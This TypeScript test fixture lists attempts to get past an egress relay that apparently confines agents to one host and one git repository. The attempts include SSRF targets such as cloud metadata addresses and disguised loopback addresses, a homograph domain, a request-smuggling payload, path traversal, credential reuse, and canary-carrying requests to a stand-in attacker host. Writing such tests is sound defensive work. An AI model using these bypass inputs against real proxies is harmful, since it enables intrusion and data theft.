import { domainToASCII } from 'node:url'
import { knock, type Tried } from './attempts.ts'

const twin = domainToASCII('аllowed.example')
const forbidden = /^HTTP\/1\.1 403 /
const notListed = 'it is not in the network of this routine'
const noName = 'it is not the name of a host'
const wrongPort = 'it is not at port 443, the only one that is let through'
const connect = (to: string, answer: RegExp, told: string): Tried => ({
  tried: { title: `CONNECT ${to.replace('\0', '<NUL>')}`, how: 'tunnel', to, servername: 'evil.example', bytes: knock },
  answer,
  told,
})

/** Names that the relay is asked for. */
export const hosts: Tried[] = [
  connect('evil.example:443', forbidden, `evil.example: ${notListed}`),
  connect('allowed.example.evil.example:443', forbidden, `allowed.example.evil.example: ${notListed}`),
  connect(`${twin}:443`, forbidden, `${twin}: ${notListed}`),
  connect('metadata.google.internal:443', forbidden, `metadata.google.internal: ${notListed}`),
  connect('allowed.example.:443', forbidden, `allowed.example.:443: ${noName}`),
  connect('localhost:443', forbidden, `localhost:443: ${noName}`),
  connect('127.0.0.1:443', forbidden, `127.0.0.1:443: ${noName}`),
  connect('169.254.169.254:443', forbidden, `169.254.169.254:443: ${noName}`),
  connect('2130706433:443', forbidden, `2130706433:443: ${noName}`),
  connect('0x7f.1:443', forbidden, `0x7f.1:443: ${noName}`),
  connect('%61llowed.example:443', forbidden, `%61llowed.example:443: ${noName}`),
  connect('[::1]:443', forbidden, '[::1]:443: it is no host with a port'),
  connect('ada@allowed.example:443', forbidden, 'ada@allowed.example:443: it is no host with a port'),
  connect(
    'allowed.example:443@evil.example:443',
    forbidden,
    'allowed.example:443@evil.example:443: it is no host with a port',
  ),
  connect('allowed.example:80', forbidden, `allowed.example:80: ${wrongPort}`),
  connect('allowed.example:22', forbidden, `allowed.example:22: ${wrongPort}`),
  connect('allowed.example:0443', forbidden, `allowed.example:0443: ${wrongPort}`),
  connect('allowed.example\0.evil.example:443', /^HTTP\/1\.1 400 /, 'a request: it is not HTTP as it is written'),
]

const sayTo = (title: string, bytes: string, { answer, told }: { answer: RegExp; told?: string }): Tried => ({
  tried: { title, how: 'say', to: 'relay', bytes },
  answer,
  ...(told === undefined ? {} : { told }),
})
const signed = 'Authorization: Bearer {token}\r\n'
const asked = (path: string, more = signed) => `GET ${path} HTTP/1.1\r\nHost: relay\r\n${more}\r\n`
const fetchOf = (name: string) => `/git/${name}/info/refs?service=git-upload-pack`
const unclear =
  'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/{canary} HTTP/1.1\r\n\r\n'

/** What else the relay is asked for. */
export const requests: Tried[] = [
  {
    tried: {
      title: 'the host of the routine is reached',
      how: 'tunnel',
      to: 'allowed.example:443',
      servername: 'allowed.example',
      bytes: 'GET /in-order HTTP/1.1\r\n\r\n',
    },
    answer: /^HTTP\/1\.1 204/,
  },
  {
    tried: {
      title: 'its tunnel with the name of another host in the greeting',
      how: 'tunnel',
      to: 'allowed.example:443',
      servername: 'evil.example',
      bytes: knock,
    },
    answer: /^(closed|E\w+|.*disconnected.*)$/,
    told: 'allowed.example: it was sent a TLS greeting that names another host',
  },
  {
    tried: {
      title: 'its tunnel without a name in the greeting',
      how: 'tunnel',
      to: 'allowed.example:443',
      servername: '',
      bytes: knock,
    },
    answer: /^(closed|E\w+|.*disconnected.*)$/,
    told: 'allowed.example: it was sent a TLS greeting without a name',
  },
  {
    tried: { title: 'its tunnel without TLS', how: 'tunnel', to: 'allowed.example:443', bytes: knock },
    answer: /^closed$/,
    told: 'allowed.example: it was sent something other than TLS',
  },
  sayTo(
    'a second CONNECT in the same breath',
    'CONNECT allowed.example:443 HTTP/1.1\r\nProxy-Authorization: Basic {basic}\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n',
    { answer: /^HTTP\/1\.1 200 Connection established\r\n\r\n$/ },
  ),
  sayTo('a whole address in place of a path', asked('http://evil.example/{canary}'), {
    answer: forbidden,
    told: 'http://evil.example/',
  }),
  sayTo('the same with https', asked('https://evil.example/{canary}'), {
    answer: forbidden,
    told: 'https://evil.example/',
  }),
  sayTo('and with another protocol', asked('ftp://evil.example/{canary}'), {
    answer: forbidden,
    told: 'ftp://evil.example/',
  }),
  sayTo(
    'a request with two lengths',
    `POST /git/repository/git-upload-pack HTTP/1.1\r\nHost: relay\r\n${signed}${unclear}`,
    { answer: /^HTTP\/1\.1 400 /, told: 'a request: it is not HTTP as it is written' },
  ),
  sayTo('CONNECT without a credential', 'CONNECT allowed.example:443 HTTP/1.1\r\n\r\n', { answer: /^HTTP\/1\.1 407 / }),
  sayTo(
    'CONNECT with the credential of another run',
    'CONNECT allowed.example:443 HTTP/1.1\r\nProxy-Authorization: Basic {anotherBasic}\r\n\r\n',
    { answer: /^HTTP\/1\.1 407 /, told: 'a connection: it brings the credential of another run' },
  ),
  sayTo(
    'its repository with the credential of another run',
    asked(fetchOf('repository'), 'Authorization: Bearer {another}\r\n'),
    { answer: forbidden, told: 'a fetch: it brings the credential of another run' },
  ),
  sayTo('another repository', asked(fetchOf('bank')), { answer: /^HTTP\/1\.1 404 /, told: '/git/bank' }),
  sayTo('another repository, by way of its own', asked(fetchOf('repository/../bank')), {
    answer: /^HTTP\/1\.1 404 /,
    told: '/git/',
  }),
  sayTo('another repository, in code', asked(fetchOf('repository%2f..%2fbank')), {
    answer: /^HTTP\/1\.1 404 /,
    told: '/git/repository%2f',
  }),
  sayTo('a push', asked('/git/repository/info/refs?service=git-receive-pack'), {
    answer: forbidden,
    told: 'a push: it is not for agents',
  }),
  sayTo(
    'a model that it does not have',
    `POST /v1/messages HTTP/1.1\r\nHost: relay\r\n${signed}Content-Length: 2\r\n\r\n{}`,
    { answer: /^HTTP\/1\.1 404 /, told: '/v1/messages' },
  ),
  {
    tried: { title: 'a commit that is on no branch', how: 'program', argv: ['git', 'fetch', 'origin', '{hidden}'] },
    answer: /not our ref|upload-pack|remote error/,
  },
  {
    tried: {
      title: 'refs that are no branches',
      how: 'program',
      argv: ['git', 'ls-remote', 'origin', 'refs/private/*', 'refs/tags/*', 'refs/stash'],
    },
    answer: /^$/,
  },
]
